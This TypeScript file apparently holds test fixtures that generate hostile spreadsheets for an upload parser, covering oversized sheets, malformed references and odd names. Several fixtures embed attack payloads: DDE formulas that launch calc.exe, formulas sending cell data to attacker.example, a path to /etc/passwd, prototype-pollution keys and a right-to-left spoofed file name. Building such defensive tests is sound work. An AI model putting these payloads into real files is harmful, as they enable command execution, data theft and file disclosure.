import { type Hostile, noise, spreadsheets, thick } from './hostile.ts'
import { bookXml, ROWS, relation, relationsXml, sheetXml, text, workbook } from './workbook.ts'

const SHEET = 'xl/worksheets/sheet1.xml'
const STRINGS = 'xl/sharedStrings.xml'
const sheet =
  (rows: string, more = '') =>
  () =>
    workbook({ [SHEET]: sheetXml(thick(rows), more) })
const cell = (reference: string, value = '1') => `<c r="${reference}"><v>${value}</v></c>`
const row = (number: number | string, cells: string) => `<row r="${number}">${cells}</row>`
const third = (cells: string) => sheet(`${ROWS}${row(3, cells)}`)
const formula = (text: string) => third(`<c r="A3" t="str"><f>${text}</f><v>shown</v></c>`)
const called = (name: string) => () => workbook({ 'xl/workbook.xml': bookXml(name) })
const strings = (content: string) => () =>
  workbook({
    [STRINGS]: `<sst>${thick(content)}</sst>`,
    'xl/_rels/workbook.xml.rels': relationsXml(
      `${relation('rId1', 'worksheet', 'worksheets/sheet1.xml')}${relation('rId2', 'sharedStrings', 'sharedStrings.xml')}`,
    ),
  })
const sheetsNamed = (count: number, id: (i: number) => string) =>
  bookXml('Sites').replace(
    /<sheets>.*<\/sheets>/,
    `<sheets>${thick(repeat(count, (i) => `<sheet name="S${i}" sheetId="${i + 1}" r:id="${id(i)}"/>`))}</sheets>`,
  )
const repeat = (count: number, make: (i: number) => string) => Array.from({ length: count }, (_, i) => make(i)).join('')
const after = (xml: string, inserted: string) => xml.replace('</sheetData>', `</sheetData>${inserted}`)
const styles = (content: string, style: string) => () =>
  workbook({
    [SHEET]: sheetXml(`${ROWS}${row(3, `<c r="A3" s="${style}"><v>0.14</v></c>`)}`),
    'xl/styles.xml': `<styleSheet>${content}</styleSheet>`,
    'xl/_rels/workbook.xml.rels': relationsXml(
      `${relation('rId1', 'worksheet', 'worksheets/sheet1.xml')}${relation('rId2', 'styles', 'styles.xml')}`,
    ),
  })

/** Cells and sheets of sizes, places, names and contents that nobody needs. */
export const cells: readonly Hostile[] = [
  ...spreadsheets('upload.span', {
    'a cell in the farthest corner': sheet(`${row(1, cell('A1'))}${row(1048576, cell('XFD1048576'))}`),
    'a cell far down and one far right': sheet(`${row(1, cell('XFD1'))}${row(1048576, cell('A1048576'))}`),
    'a row far beyond the last': sheet(`${row(1, cell('ZZ1'))}${row(99_999_999, cell('A99999999'))}`),
    'small letters in the farthest corner': sheet(row(1, cell('xfd1048576'))),
    'a hundred thousand columns': sheet(row(1, '<c><v>1</v></c>'.repeat(100_000)) + row(30, cell('A30'))),
  }),
  ...spreadsheets('upload.too-many-cells', {
    'half a million cells': sheet(repeat(500, (i) => row(i + 1, '<c><v>1</v></c>'.repeat(1000)))),
    'a million shared texts': strings(repeat(1_000_000, () => '<si><t>x</t></si>')),
    'two million rows without cells': sheet(repeat(2_000_000, () => '<row/>')),
    'half a million cells over ten sheets': () =>
      workbook(
        Object.fromEntries(
          Array.from({ length: 10 }, (_, i) => [
            `xl/worksheets/sheet${i + 1}.xml`,
            sheetXml(thick(repeat(50, (j) => row(j + 1, '<c><v>1</v></c>'.repeat(1000))))),
          ]),
        ),
      ),
  }),
  ...spreadsheets('upload.markup', {
    'joins the same cells a million times': () =>
      workbook({
        [SHEET]: after(
          sheetXml(ROWS),
          thick(`<mergeCells>${'<mergeCell ref="A1:B1"/>'.repeat(1_000_000)}</mergeCells>`),
        ),
      }),
    'a theme of half a million elements': () =>
      workbook({ 'xl/theme/theme1.xml': `<theme>${thick('<a/>'.repeat(500_000))}</theme>` }),

    'a format of forty thousand brackets': styles(
      `<numFmts><numFmt numFmtId="200" formatCode="${'['.repeat(20_000)}${'\\'.repeat(20_000)}"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="200"/></cellXfs>`,
      '1',
    ),
    'sixty thousand formats': styles(
      `<numFmts>${repeat(60_000, (i) => `<numFmt numFmtId="${i + 200}" formatCode="0.0${i}"/>`)}</numFmts>`,
      '7',
    ),
  }),
  ...spreadsheets('upload.text-too-long', {
    'a text of five megabytes': third(text('A3', noise(3_500_000))),
    'a text of one letter more than there may be': third(text('A3', noise(32_768))),
  }),
  ...spreadsheets('upload.sheet-place', {
    'forty thousand sheets that are one': () => workbook({ 'xl/workbook.xml': sheetsNamed(40_000, () => 'rId1') }),
    'two sheets by two ways to one part': () =>
      workbook({
        'xl/workbook.xml': sheetsNamed(2, (i) => `rId${i + 1}`),
        'xl/_rels/workbook.xml.rels': relationsXml(
          `${relation('rId1', 'worksheet', 'worksheets/sheet1.xml')}${relation('rId2', 'worksheet', '../xl/./worksheets//sheet1.xml')}`,
        ),
      }),
    'a sheet that is a property': () =>
      workbook({
        'docProps/app.xml': sheetXml(`${row(1, cell('A1'))}${row(1048576, cell('XFD1048576'))}`),
        'xl/_rels/workbook.xml.rels': relationsXml(relation('rId1', 'worksheet', '/docProps/app.xml')),
      }),
    'a workbook that is a property': () =>
      workbook({
        'docProps/app.xml': bookXml(),
        '_rels/.rels': relationsXml(relation('rId1', 'officeDocument', 'docProps/app.xml')),
      }),
  }),
  ...spreadsheets('upload.damaged', {
    'a cell beyond the last column': third(cell('ZZZ3')),
    'a cell in row 0': third(cell('A0')),
    'a cell below row 0': third(cell('A-1')),
  }),
  ...spreadsheets('read: Sites 2x2', {
    'says that it reaches the farthest corner': sheet(ROWS, '<dimension ref="A1:XFD1048576"/>'),
    'a row without cells at its very end': sheet(`${ROWS}<row r="1048576" ht="12.8" customHeight="true"></row>`),
    'joins all cells there are': () =>
      workbook({ [SHEET]: after(sheetXml(ROWS), '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>') }),
    'joins the same cells fifty thousand times': () =>
      workbook({
        [SHEET]: after(sheetXml(ROWS), thick(`<mergeCells>${'<mergeCell ref="A1:B1"/>'.repeat(50_000)}</mergeCells>`)),
      }),
    'forty thousand rules for input': () =>
      workbook({
        [SHEET]: after(
          sheetXml(ROWS),
          thick(
            `<dataValidations>${'<dataValidation type="list" sqref="A1:XFD1048576"><formula1>"a,b"</formula1></dataValidation>'.repeat(40_000)}</dataValidations>`,
          ),
        ),
      }),
    'a name that calls a program': () =>
      workbook({
        'xl/workbook.xml': bookXml(
          'Sites',
          '<definedNames><definedName name="x">cmd|\'/c calc\'!A0</definedName></definedNames>',
        ),
      }),
    'a sheet that stands in itself': () =>
      workbook({
        'xl/worksheets/_rels/sheet1.xml.rels': relationsXml(relation('rId1', 'drawing', '../worksheets/sheet1.xml')),
      }),
    'a drawing outside the workbook': () =>
      workbook({
        'xl/worksheets/_rels/sheet1.xml.rels': relationsXml(relation('rId1', 'drawing', '../../../../etc/passwd')),
      }),
  }),
  ...spreadsheets('read: Sites 3x2', {
    'a number beyond all numbers': third(cell('A3', '1e999')),
    'a number that is none': third(cell('A3', 'NaN')),
    'a number of a megabyte': third(cell('A3', '9'.repeat(1_000_000))),
    'a day beyond all days': styles('<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>', '1'),
    'a style that does not exist': styles('<cellXfs><xf numFmtId="0"/></cellXfs>', '99999999'),
    'ten thousand formats': styles(
      `<numFmts>${repeat(10_000, (i) => `<numFmt numFmtId="${i + 200}" formatCode="0.0${i}"/>`)}</numFmts><cellXfs>${repeat(10_000, (i) => `<xf numFmtId="${i + 200}"/>`)}</cellXfs>`,
      '7',
    ),
    'a shared text that does not exist': third('<c r="A3" t="s"><v>99999999</v></c>'),
    'a shared text below the first': third('<c r="A3" t="s"><v>-1</v></c>'),
    'a text in ten thousand pieces': third(`<c r="A3" t="inlineStr"><is>${'<r><t>x</t></r>'.repeat(10_000)}</is></c>`),
    'headers called after the inside of the program': sheet(
      `${row(1, `${text('A1', '__proto__')}${text('B1', 'constructor')}`)}${row(2, `${text('A2', 'toString')}${text('B2', 'hasOwnProperty')}`)}${row(3, text('A3', '{"__proto__":{"admin":true}}'))}`,
    ),
    'the same cell twice': third(`${cell('A3')}${cell('A3', '2')}`),
    'a text that runs right to left': third(text('A3', '\u202Egnp.exe')),
  }),
  ...spreadsheets('read: Sites 3x2 1 formula', {
    'a formula that calls a program': formula("cmd|'/c calc.exe'!A0"),
    'a formula that follows a link': formula('HYPERLINK("http://attacker.example/?"&amp;A1,"Click")'),
    'a formula that asks the web': formula('WEBSERVICE("http://attacker.example/"&amp;A1)'),
    'a formula that imports': formula('IMPORTXML("http://attacker.example","//a")'),
    'a formula from another file': formula("'[secret.xlsx]Sheet1'!A1"),
    'a formula in itself': third('<c r="A3"><f>A3+1</f></c>'),
    'a formula without a result': third('<c r="A3"><f>1+1</f></c>'),
    'a formula over a range': third('<c r="A3"><f t="array" ref="A3:XFD1048576">ROW()</f><v>3</v></c>'),
    'a shared formula without its first': third('<c r="A3"><f t="shared" si="99"/><v>3</v></c>'),
    'a formula of half a megabyte': formula(`1${'+1'.repeat(250_000)}`),
  }),
  ...spreadsheets('read: Sites 20000x5 100000 formulas', {
    'a hundred thousand formulas': sheet(
      repeat(20_000, (i) =>
        row(
          i + 1,
          repeat(5, (j) => `<c r="${'ABCDE'[j]}${i + 1}"><f>A1</f><v>1</v></c>`),
        ),
      ),
    ),
  }),
  ...spreadsheets('read: __proto__ 2x2', { 'a sheet called __proto__': called('__proto__') }),
  ...spreadsheets('read: constructor 2x2', { 'a sheet called constructor': called('constructor') }),
  ...spreadsheets("read: '../../x' 2x2", { 'a sheet called like a path': called("'../../x'") }),
  ...spreadsheets('read: =1+1 2x2', { 'a sheet called like a formula': called('=1+1') }),
  ...spreadsheets('read: <script> 2x2', { 'a sheet called like a script': called('&lt;script&gt;') }),
  ...spreadsheets('read: ', { 'a workbook without sheets': () => workbook({ 'xl/workbook.xml': '<workbook/>' }) }),
]
